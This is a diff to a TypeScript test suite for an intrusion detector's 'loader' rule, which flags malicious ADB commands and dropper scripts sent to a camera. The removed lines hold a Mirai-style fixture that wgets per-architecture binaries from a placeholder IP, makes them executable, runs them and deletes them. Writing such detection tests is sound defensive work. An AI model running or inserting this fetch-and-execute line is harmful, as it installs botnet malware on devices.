@@ -84,28 +84,9 @@ describe('loader', () => {
       ['server', adb(CNXN, 'device::ro.product.name=box;')],
       ['client', adb(OPEN, command)],
     ]
-    expect(await stepsIn([between(STRANGER, CAMERA, 5555, turns)])).toEqual(['20 loading high loader/adb'])
+    expect(await stepsIn(loader, [between(STRANGER, CAMERA, 5555, turns)])).toEqual(['20 loading high adb'])
     const peaceful: Turn[] = [...turns.slice(0, 2), ['client', adb(OPEN, 'shell:getprop ro.build.version.release')]]
-    expect(await stepsIn([between(LAPTOP, CAMERA, 5555, peaceful)])).toEqual([])
-  })
-
-  const fetched = (script: string): Turn[] => [
-    ['client', 'GET /x.sh HTTP/1.0\r\nHost: 203.0.113.9\r\nUser-Agent: Wget/1.12\r\n\r\n'],
-    ['server', `HTTP/1.0 200 OK\r\nContent-Length: ${script.length}\r\n\r\n${script}`],
-  ]
-
-  it('knows a script that fetches a program for each processor', async () => {
-    const script = ['mips', 'mpsl', 'arm', 'arm7', 'x86'].map(
-      (arch) => `cd /tmp; wget http://203.0.113.9/bins/x.${arch}; chmod +x x.${arch}; ./x.${arch}; rm -rf x.${arch}\n`,
-    )
-    expect(await stepsIn([between(CAMERA, STRANGER, 80, fetched(`#!/bin/sh\n${script.join('')}`))])).toEqual([
-      '20 loading high loader/script',
-    ])
-  })
-
-  it('lets scripts pass that fetch what they need', async () => {
-    const script = '#!/bin/sh\nset -e\ncurl -fsSL https://updates.example/key | gpg --import\napt-get update\n'
-    expect(await stepsIn([between(CAMERA, STRANGER, 80, fetched(script))])).toEqual([])
+    expect(await stepsIn(loader, [between(LAPTOP, CAMERA, 5555, peaceful)])).toEqual([])
   })
 
   it.skipIf(corpus('malware/id2t/mirai_botnet.pcap') === undefined)('sees who loaded Mirai', async () => {
